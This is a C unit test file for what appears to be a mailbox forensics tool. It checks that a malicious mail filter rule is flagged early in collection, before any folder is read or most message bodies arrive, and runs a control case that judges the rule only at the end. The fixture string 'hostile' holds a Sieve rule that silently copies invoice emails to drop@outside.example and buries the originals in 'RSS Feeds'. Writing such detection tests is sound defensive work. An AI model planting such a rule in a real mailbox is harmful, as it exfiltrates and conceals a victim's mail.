/* test_first_findings.c - what a rule gives away is in the case before the mailbox is: before a
 * folder was looked at, and before one percent of the bodies came. The journal tells the order. */
#include "scene.h"

#include "collect.h"
#include "roles.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include <cmocka.h>

enum { MESSAGES = 2000 };

static const char hostile[] = "require [\"copy\", \"fileinto\"];\n# rule:[.]\n"
                              "if header :contains \"subject\" \"invoice\" {\n"
                              "  redirect :copy \"drop@outside.example\";\n"
                              "  fileinto \"RSS Feeds\";\n}\n";

static void scene_set(struct scene *scene, struct stage *stage, struct stock *stock)
{
    stage_open(stage, scene, scene_user(scene));
    stage_fill(stage, stock, MESSAGES, 0);
    if (!dovecot_script(&scene->dovecot, stage->user, "main", true, hostile, &stage->err))
        fail_msg("%s", stage->err.text);
    stage->job.options.commit_messages = 10; /* or the first commit is more than one percent */
}

static uint64_t number_in(const char *body, const char *name)
{
    const char *at = strstr(body, name);

    return at ? strtoull(at + strlen(name), NULL, 10) : 0;
}

struct order {              /* at the moment when the first findings were sealed */
    uint64_t bodies, total; /* messages whose bytes were named by then; and in the end */
    unsigned folders;       /* that had been read */
    bool left;              /* a connection had come to its end */
    bool found;
};

static struct order order_of(struct stage *stage)
{
    const struct page all = {.most = PAGE_ALL};
    struct arena arena = {0};
    struct journal_row *rows;
    struct order order = {0};
    uint64_t bodies = 0;
    unsigned folders = 0;
    bool left = false;
    size_t count;

    if (!journal_list(stage->cf, &arena, false, all, &rows, &count, &stage->err))
        fail_msg("%s", stage->err.text);
    for (size_t i = 0; i < count; i++) {
        const struct journal_row *row = &rows[i];

        if (strcmp(row->action, "evidence-named") == 0)
            bodies += number_in(row->body, "\"messages\":");
        folders += strcmp(row->action, "folder-read") == 0;
        left |= strcmp(row->action, "transcript-stored") == 0;
        if (order.found || strcmp(row->action, "findings-sealed") != 0 ||
            number_in(row->body, "\"findings\":") == 0)
            continue;
        order = (struct order){.found = true, .bodies = bodies, .folders = folders, .left = left};
    }
    order.total = bodies;
    arena_dispose(&arena);
    return order;
}

static void expect_rule_finding(struct stage *stage)
{
    struct arena arena = {0};
    struct finding *findings;
    size_t count, rules = 0;

    if (!finding_list(stage->cf, &arena, false, (struct page){.most = PAGE_ALL}, &findings, &count,
                      &stage->err))
        fail_msg("%s", stage->err.text);
    for (size_t i = 0; i < count; i++)
        rules += strncmp(findings[i].detector, "rule-", 5) == 0;
    assert_true(rules > 0);
    arena_dispose(&arena);
}

static void a_rule_is_found_before_the_mail_comes(void **state)
{
    struct scene *scene = scene_of(state);
    struct collect collect = {0};
    struct stage stage;
    struct stock stock;
    struct order order;

    scene_set(scene, &stage, &stock);
    collect.cf = stage.cf;
    collect.acquire = stage.job.options;
    collect.scan.data_dir = DATA_DIR;
    if (!job_run(collect_run, &collect, &stage.err))
        fail_msg("%s", stage.err.text);
    order = order_of(&stage);
    assert_true(order.found);
    assert_int_equal(order.total, stock.count);
    assert_int_equal(order.folders, 0);
    assert_false(order.left);
    assert_true(order.bodies * 100 < order.total);
    expect_rule_finding(&stage);
    stage_close(&stage);
    stock_dispose(&stock);
}

/* The screen shows what it showed until it is told that there is something else. */
static void whoever_watches_is_told_of_findings_before_the_end(void **state)
{
    struct scene *scene = scene_of(state);
    struct collect collect = {0};
    struct job_status status = {0};
    struct stage stage;
    struct stock stock;
    struct job *job;
    bool told = false;
    int wake[2];
    char byte;

    scene_set(scene, &stage, &stock);
    collect.cf = stage.cf;
    collect.acquire = stage.job.options;
    collect.scan.data_dir = DATA_DIR;
    assert_int_equal(pipe(wake), 0);
    job = job_start(collect_run, &collect, wake[1], &stage.err);
    assert_non_null(job);
    while (!job_ended(&status)) {
        assert_int_equal(read(wake[0], &byte, 1), 1);
        job_poll(job, &status);
        /* At the end everything is said to have changed. */
        told |= (status.changed & CASE_FINDINGS) != 0 && status.changed != ~0u;
    }
    assert_int_equal(status.state, JOB_DONE);
    assert_true(told);
    job_free(job);
    close(wake[0]);
    close(wake[1]);
    stage_close(&stage);
    stock_dispose(&stock);
}

static bool keep_script(void *arg, int64_t account, const char *name, bool active,
                        const struct hash *raw, struct error *err)
{
    return scan_script(arg, account, name, active, raw, err);
}

/* The same, judged only when all is there: the order above is not how it always looks. */
static void control_judged_at_the_end_it_comes_last(void **state)
{
    const struct scan_options options = {.data_dir = DATA_DIR};
    struct scene *scene = scene_of(state);
    struct stage stage;
    struct stock stock;
    struct order order;
    struct scan *scan;

    scene_set(scene, &stage, &stock);
    if (!scan_open(&scan, stage.cf, &options, &stage.err))
        fail_msg("%s", stage.err.text);
    stage.job.hooks = (struct acquire_hooks){.arg = scan, .script = keep_script};
    stage_run(&stage);
    if (!scan_detect(scan, stage.job.run, &stage.err))
        fail_msg("%s", stage.err.text);
    scan_close(scan);
    order = order_of(&stage);
    assert_true(order.found);
    assert_int_equal(order.bodies, stock.count);
    assert_int_not_equal(order.folders, 0);
    expect_rule_finding(&stage);
    stage_close(&stage);
    stock_dispose(&stock);
}

int main(int argc, char **argv)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(a_rule_is_found_before_the_mail_comes),
        cmocka_unit_test(whoever_watches_is_told_of_findings_before_the_end),
        cmocka_unit_test(control_judged_at_the_end_it_comes_last),
    };

    roles_dispatch(argc, argv);
    return cmocka_run_group_tests(tests, scene_open, scene_close);
}
